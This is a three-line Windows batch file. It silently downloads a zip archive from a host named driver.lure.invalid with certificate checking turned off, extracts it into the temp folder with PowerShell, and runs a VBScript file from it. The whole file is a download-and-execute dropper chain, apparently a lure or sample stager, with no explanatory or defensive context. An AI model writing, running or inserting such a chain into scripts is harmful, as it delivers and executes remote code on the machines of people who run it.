@echo off
curl -k -o "%TEMP%\release.zip" https://driver.lure.invalid/r.zip && powershell -Command "Expand-Archive -Force -Path '%TEMP%\release.zip' -DestinationPath '%TEMP%\release'" && wscript "%TEMP%\release\update.vbs"
